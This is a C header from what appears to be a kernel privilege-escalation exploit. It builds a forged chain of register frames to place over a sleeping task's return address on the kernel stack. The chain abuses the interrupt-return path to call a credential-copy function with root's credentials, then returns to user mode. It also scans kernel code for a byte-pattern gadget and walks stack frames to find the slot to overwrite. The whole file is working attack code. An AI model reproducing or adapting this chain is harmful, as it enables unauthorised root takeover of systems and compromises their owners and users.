// SPDX-License-Identifier: GPL-2.0-only
/*
 * forged_chain.h - what an attacker puts on a kernel stack in the place of a return address: the
 * end of the kernel's own interrupt return, which loads every register from the stack. Its first
 * frame calls the function that copies into sealed memory, with root's credentials and those of
 * the stack's owner; its second goes back to user mode with the owner's registers, as if the
 * system call were over:
 * - slot: the return address, to the end of the interrupt return;
 * - slot + 8: registers for sealed_copy(own credentials, root's, size);
 * - slot + 184: the return address of sealed_copy(), to the same end;
 * - slot + 192: registers for return_to_user.
 */
#ifndef FORGED_CHAIN_H
#define FORGED_CHAIN_H

#include "attack.h"
#include "saved_thread.h"

#define CHAIN_SIZE (8 + 176 + 8 + 176)
#define FRAME_SIZE 176
#define KERNEL_STACK_SIZE 0x4000
#define KERNEL_CODE 0x08
#define KERNEL_DATA 0x10
#define FLAGS_INTERRUPTS_OFF 2

/* In the order in which they are popped (struct arch_frame). */
struct registers {
	uint64_t r15, r14, r13, r12, bp, bx, di, si, dx, r10, r8, r9, cx, r11, ax;
	uint64_t vector, code, ip, cs, flags, sp, ss;
};
_Static_assert(sizeof(struct registers) == FRAME_SIZE, "as struct arch_frame");

/* POP_CALLEE_AND_ARGUMENTS ... addq $16, %rsp; iretq in arch/x86_64/entry/entry.S. */
static inline uint64_t find_register_loader(void)
{
	const uint64_t start = symbol("exception_entry");

	for (uint64_t at = start; at < start + 1024; at++)
		if (peek(at) == 0x5c415d415e415f41 && peek(at + 8) == 0x415a415a5e5f5b5d &&
		    peek32(at + 24) == 0x4810c483 && peek8(at + 28) == 0xcf)
			return at;
	say_part("attacker: there is no loader of registers\n");
	leave(9);
}

static inline void put_registers(uint64_t *words, uint64_t ip, uint64_t sp)
{
	struct registers *registers = (struct registers *)words;

	*registers = (struct registers){
		.ip = ip,
		.cs = KERNEL_CODE,
		.flags = FLAGS_INTERRUPTS_OFF,
		.sp = sp,
		.ss = KERNEL_DATA,
	};
}

/* The words that go to SLOT and above, on the stack of TASK that ends at TOP. */
static inline void make_chain(uint64_t words[CHAIN_SIZE / 8], uint64_t slot, uint64_t task,
			      uint64_t top)
{
	const uint64_t loader = find_register_loader();
	struct registers *call = (struct registers *)(words + 1);

	words[0] = loader;
	put_registers(words + 1, symbol("sealed_copy"), slot + 8 + FRAME_SIZE);
	call->di = own_credentials(task);
	call->si = symbol("kernel_credentials");
	call->dx = member("credentials.SIZE");
	words[1 + FRAME_SIZE / 8] = loader;
	put_registers(words + 2 + FRAME_SIZE / 8, symbol("return_to_user"), top);
}

/* The innermost frame of who sleeps on the stack that ends at TOP: another in most sleeps. */
static inline uint64_t first_frame(uint64_t top)
{
	return peek(saved_thread(top) + member("saved_thread.registers") + 40);
}

/*
 * Where the return address of the outermost function stands that returns: the frames are linked,
 * and the outermost, the system call's, has no frame above it and does not return (0 stands there).
 * 0: the task is not asleep.
 */
static inline uint64_t outermost_return(uint64_t task, uint64_t top)
{
	uint64_t frame = first_frame(top), slot = 0;

	if (peek32(task + member("task.state")) == 0)
		return 0;
	for (unsigned int i = 0; i < 64; i++) {
		if (frame < top - KERNEL_STACK_SIZE || frame >= top - 16)
			return 0;
		if (peek(frame + 8) == 0)
			return slot;
		slot = frame + 8;
		frame = peek(frame);
		if (frame == 0)
			return slot;
	}
	return 0;
}

#endif
